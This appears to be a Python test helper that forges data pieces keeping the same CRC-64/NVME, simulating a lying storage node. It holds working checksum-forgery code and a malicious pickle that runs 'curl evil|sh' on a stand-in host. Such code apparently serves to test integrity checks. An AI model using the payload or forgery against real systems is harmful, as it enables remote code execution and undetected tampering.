"""The best attack of a lying node: different bytes of the same length and the same CRC-64/NVME."""

from functools import cache

from awscrt import checksums

EVIL = b"cos\nsystem\n(S'curl evil|sh'\ntR."  # a pickle that runs a command
_END = 8  # bytes that compensate for the forged ones


def crc64nvme(content: bytes) -> int:
    """Return the CRC-64/NVME."""
    return int(checksums.crc64nvme(content, 0))


def forged(piece: bytes, evil: bytes = EVIL) -> bytes:
    """Put ``evil`` at the start of a piece, and 8 bytes at its end that preserve its CRC.

    A piece that is too short for both is unchanged.
    """
    if len(piece) < len(evil) + _END:
        return piece
    out = evil + piece[len(evil) : -_END]
    change = crc64nvme(out + bytes(_END)) ^ crc64nvme(piece)
    return out + _solution(change).to_bytes(_END, "little")


def _solution(change: int) -> int:
    """Return the last 8 bytes, as a number, that change the CRC of zero-terminated bytes by this value."""
    bits = 0
    while change:
        value, mask = _basis()[change.bit_length()]
        change, bits = change ^ value, bits ^ mask
    return bits


@cache
def _basis() -> dict[int, tuple[int, int]]:
    """Return changes of a CRC by their highest bit, each with the bits of the last 8 bytes that cause it.

    A CRC is linear, so the bytes before these do not matter.
    """
    zeros, basis = crc64nvme(bytes(_END)), dict[int, tuple[int, int]]()
    for bit in range(8 * _END):
        value, mask = crc64nvme((1 << bit).to_bytes(_END, "little")) ^ zeros, 1 << bit
        while value:
            high = value.bit_length()
            if high not in basis:
                basis[high] = value, mask
                break
            value, mask = value ^ basis[high][0], mask ^ basis[high][1]
    return basis
